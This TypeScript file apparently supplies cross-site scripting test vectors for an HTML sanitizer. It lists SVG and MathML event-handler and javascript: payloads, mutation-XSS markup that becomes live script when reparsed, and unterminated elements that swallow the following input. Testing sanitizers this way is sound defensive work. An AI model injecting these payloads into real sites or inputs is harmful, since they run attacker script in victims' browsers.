/** Drawings and formulas, and markup that becomes something else when it is read a second time. */
import {call, elsewhere, swallowing, vectors} from './vector.ts'

const image = `<img src=x onerror=${call}>`

export const foreign = [
  ...vectors('svg', {
    load: `<svg onload=${call}></svg>`,
    'load without spaces': `<svg/onload=${call}>`,
    script: `<svg><script>${call}</script></svg>`,
    'script of an address': `<svg><script href="data:,${call}"></script><script xlink:href="${elsewhere}1.js"/></svg>`,
    'script with references': '<svg><script>&#114;an()</script></svg>',
    link: `<svg><a xlink:href="javascript:${call}"><text y=20>字</text></a></svg>`,
    'link that is animated': `<svg><a><animate attributeName=href values="javascript:${call}" /><text y=20>字</text></a></svg>`,
    'link that is set': `<svg><a xlink:href=x><set attributeName=xlink:href to="javascript:${call}" begin=0s /><text>字</text></a></svg>`,
    'begin of an animation': `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
    'handler that is animated': `<svg><set attributeName=onmouseover to=${call}></svg>`,
    use: `<svg><use href="${elsewhere}1.svg#x"/><use xlink:href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"/></svg>`,
    image: `<svg><image href="${elsewhere}1.png" xlink:href="${elsewhere}2.png" onerror=${call} /></svg>`,
    'style that imports': `<svg><style>@import "${elsewhere}1.css";</style></svg>`,
    'filter from elsewhere': `<svg><rect filter="url(${elsewhere}1.svg#f)" fill="url(${elsewhere}2.svg#g)" /></svg>`,
    'page inside': `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${image}<iframe src="javascript:${call}"></iframe></body></foreignObject></svg>`,
    'handler element': `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${call}</handler></svg>`,
  }),
  ...vectors('math', {
    link: `<math href="javascript:${call}"><mtext>字</mtext></math>`,
    'link by xlink': `<math><maction actiontype="statusline#x" xlink:href="javascript:${call}">字</maction></math>`,
    'annotation that is a page': `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
    'annotation that is a drawing': `<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><svg onload=${call} /></annotation-xml></semantics></math>`,
  }),
  ...vectors('mutation', {
    'style of a formula': `<math><mtext><table><mglyph><style><!--</style>${image}--></style></mglyph></table></mtext></math>`,
    'style of a drawing': `<svg></p><style><a id="</style>${image}"></svg>`,
    'title of a drawing': `<svg><title><style><img title="</style>${image}"></title></svg>`,
    'formula in a form twice': `<form><math><mtext></form><form><mglyph><style></math>${image}</style></form>`,
    'mark that closes twice': `<math><mi><b></mi></b><malignmark><style><!--</style>${image}--></malignmark></math>`,
    'section of characters': `<svg><![CDATA[><img src=x onerror=${call}>]]></svg><![CDATA[${image}]]>`,
    'noscript by its title': `<noscript><p title="</noscript>${image}"></noscript>`,
    'noscript by a style': `<noscript><style></noscript>${image}</style>`,
    'template by a style': `<template><style></template>${image}</style></template>`,
    'select by a style': `<select><style></select>${image}</style>`,
    'table that gives up': `<table><a href="javascript:${call}">字<td>格</td></a>${image}</table>`,
    'list nested with itself': `<a><li><a>甲</li><svg><style></a>${image}</style></svg>`,
    'unfinished title': `<title>甲</title><textarea><title></textarea>${image}`,
    'raw elements of old': `<xmp><p title="</xmp>${image}"></xmp><noembed><p title="</noembed>${image}"></noembed><noframes><p title="</noframes>${image}"></noframes>`,
    'attribute with every quote': `<p title="\`'&quot;&lt;/p&gt;${image.replaceAll('"', '')}">字</p>`,
    'reference of a reference': '<p>&amp;lt;img src=x onerror=ran()&amp;gt; &lt;img src=x onerror=ran()&gt;</p>',
    'paragraph in a paragraph': `<p><p title="<p>${image}</p>"><dl><dt><p>字<table><p>${image}`,
  }),
  ...swallowing('mutation', {
    'plain text to the end': `<plaintext>${image}`,
    'unfinished comment': `<!-- ${image}`,
    'unfinished script': `<script>${call};`,
    'unfinished textarea': `<textarea>${image}`,
  }),
]
